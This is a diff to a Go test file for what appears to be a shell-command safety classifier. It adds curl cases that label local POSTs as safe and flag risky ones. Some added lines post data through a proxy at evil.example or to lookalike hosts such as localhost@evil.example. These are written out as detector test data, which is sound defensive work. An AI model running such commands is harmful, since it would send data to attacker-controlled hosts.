@@ -136,6 +136,14 @@ var reviewed = map[string]string{
 	"tmux ls":                                                       "",
 	"tmux capture-pane -p -t 0 | tail -40":                          "",
 	"curl -s http://localhost:3000/api/health":                      "n",
+	"curl -X POST localhost:3000/api/users -d '{\"a\":1}'":          "n",
+	"curl -d @seed.json http://127.0.0.1:8080/":                     "n",
+	"curl -d x=1 http://localhost http://example.com":               "Sn",
+	"curl -x evil.example:80 -d x=1 http://localhost/":              "Sn",
+	"curl -L -d x=1 http://localhost/":                              "Sn",
+	"curl -d x=1 http://localhost.evil.example/":                    "Sn",
+	"curl -d x=1 http://localhost@evil.example/":                    "Sn",
+	"curl -d x=1 \"$URL\"":                                          "Sn",
 	"curl -sL https://example.com/a.tar.gz -o a.tar.gz":             "n",
 	"curl -s -o /dev/null -w '%{http_code}' http://localhost:8080/": "n",
 	"wget -q https://example.com/data.csv":                          "n",
@@ -491,7 +499,7 @@ func TestOfCommand_AnswersAtOnce(t *testing.T) {
 		"sudo ", "ssh a ", "xargs ", "uv run ", "bash -c ", "( ", "a|(", "${a:-", "{a,b} ", "git -c a ", "a=b ",
 		"'rm "} {
 		begun := time.Now()
-		OfCommand(strings.Repeat(part, mostParsed/len(part)), "/src/shop")
+		ofCommand(strings.Repeat(part, mostParsed/len(part)), "/src/shop")
 		require.Less(t, time.Since(begun), 5*time.Second, part)
 	}
 }
